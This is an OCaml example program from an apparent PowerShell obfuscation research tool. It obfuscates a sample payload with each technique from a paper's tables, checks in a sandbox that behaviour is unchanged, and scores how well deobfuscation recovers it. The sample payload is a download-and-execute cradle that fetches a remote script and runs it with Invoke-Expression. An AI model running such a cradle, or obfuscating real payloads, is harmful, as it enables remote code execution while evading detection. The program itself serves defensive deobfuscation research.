(* Obfuscation lab: apply every technique of the paper's Table II to a
   payload, verify in the sandbox that obfuscation preserved behaviour, then
   deobfuscate and check how much each technique resisted.

   Run with:  dune exec examples/obfuscation_roundtrip.exe *)

let payload =
  "$u = 'https://updates.example.com/payload.txt'\n\
   $c = (New-Object Net.WebClient).DownloadString($u)\n\
   Invoke-Expression $c"

let () =
  let rng = Pscommon.Rng.of_int 99 in
  let reference = Sandbox.run payload in
  Printf.printf "payload network behaviour: %s\n\n"
    (String.concat ", " (Sandbox.network_signature reference));
  Printf.printf "%-22s %6s %9s %9s %10s %s\n" "technique" "level" "size"
    "behavior" "score" "deobf-score";
  List.iter
    (fun technique ->
      let obfuscated = Obfuscator.Obfuscate.apply rng technique payload in
      let same =
        Sandbox.same_network_behavior reference (Sandbox.run obfuscated)
      in
      let _, recovered =
        Deobf.Batch.run_source ~verify:true ~name:"sample" obfuscated
      in
      Printf.printf "%-22s %6d %8dB %9s %10d %d\n"
        (Obfuscator.Technique.name technique)
        (Obfuscator.Technique.level technique)
        (String.length obfuscated)
        (if same then "same" else "CHANGED")
        (Deobf.Score.score obfuscated)
        (Deobf.Score.score recovered))
    Obfuscator.Technique.all;
  print_newline ();

  (* stacked layers: the multi-layer case of Table III *)
  let layered = Obfuscator.Obfuscate.multilayer rng 3 payload in
  Printf.printf "3-layer sample (%d bytes) -> " (String.length layered);
  let result, output =
    Deobf.Batch.run_source ~verify:true ~name:"layered" layered
  in
  Printf.printf "unwrapped %d layers; final output:\n%s\n"
    result.stats.Deobf.Recover.layers_unwrapped (String.trim output)
